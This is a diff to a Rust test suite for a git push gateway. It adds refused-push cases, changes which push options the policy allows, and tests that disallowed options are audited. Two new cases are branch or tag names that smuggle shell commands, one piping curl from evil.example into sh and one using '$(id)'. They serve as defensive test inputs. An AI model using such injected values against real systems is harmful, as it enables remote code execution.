@@ -64,11 +64,6 @@ const ALLOWED: &[Allowed] = &[
         moved: &[(X, "HEAD"), ("refs/heads/sandbox/y", "HEAD")],
     },
     Allowed {
-        before: "first; server config receive.advertisePushOptions true",
-        push: "git push -o ci.skip -o topic=x origin sandbox/x",
-        moved: &[(X, "HEAD")],
-    },
-    Allowed {
         before: "first; server config receive.certNonceSeed seed",
         push: "git push --signed=if-asked origin sandbox/x",
         moved: &[(X, "HEAD")],
@@ -252,6 +247,19 @@ const REFUSED: &[Refused] = &[
     Refused { before: "git tag v1", push: "git push origin v1", rule: "push.branch", ..BY_NAME },
     Refused {
         before: "first",
+        push: "git push origin 'HEAD:refs/heads/sandbox/x\";curl${IFS}evil.example|sh;#'",
+        rule: "push.new-name",
+        says: &["has '\"'; a new branch or tag of a bot has letters, digits and ._/+@=- only"],
+        ..BY_NAME
+    },
+    Refused {
+        before: "first; git tag 'sandbox/$(id)'",
+        push: "git push origin 'sandbox/$(id)'",
+        rule: "push.new-name",
+        ..BY_NAME
+    },
+    Refused {
+        before: "first",
         push: "git push origin HEAD:refs/notes/x",
         rule: "push.ref",
         says: &["! [remote rejected] HEAD -> refs/notes/x ("],
@@ -430,7 +438,7 @@ fn force_on_own_branches_is_force_on_those_alone() {
 #[test]
 fn the_policy_lets_force_and_deletion_and_says_how_refusals_are_told() {
     let policy = format!(
-        "{}policy: {{allow_force_push: true, allow_branch_deletion: true}}\ngithub: {{push_refusal: http}}\n",
+        "{}policy: {{allow_force_push: true, allow_branch_deletion: true}}\ngithub: {{push_refusal: http, push_options: [ci.skip]}}\n",
         gateway::policy(&HOSTS)
     );
     let gateway = Gateway::with(&policy).settings(NO_CREDENTIAL_BUT_GITHUB).upstream(&rig().upstream).up();
@@ -439,6 +447,11 @@ fn the_policy_lets_force_and_deletion_and_says_how_refusals_are_told() {
     place.sh("pushed; git commit -q --amend -m other").success();
     assert_push(&place, "git push -f origin sandbox/x", 0, &[]);
     assert_eq!(place.refs()[X], place.revision("HEAD"));
+    place.sh("server config receive.advertisePushOptions true").success();
+    assert_push(&place, "change three; git push -o ci.skip origin sandbox/x", 0, &[]);
+    assert_eq!(place.refs()[X], place.revision("HEAD"));
+    assert_push(&place, "change four; git push -o ci.skip -o topic=x origin sandbox/x", 1, &["HTTP 403"]);
+    place.audit_line(&gateway, |line| line["rule"] == "push.option");
     let at = place.refs();
     assert_push(&place, "git push -f origin HEAD:main", 1, &["HTTP 403"]);
     assert_push(&place, "git tag sandbox/v1; git push -q origin sandbox/v1", 0, &[]);
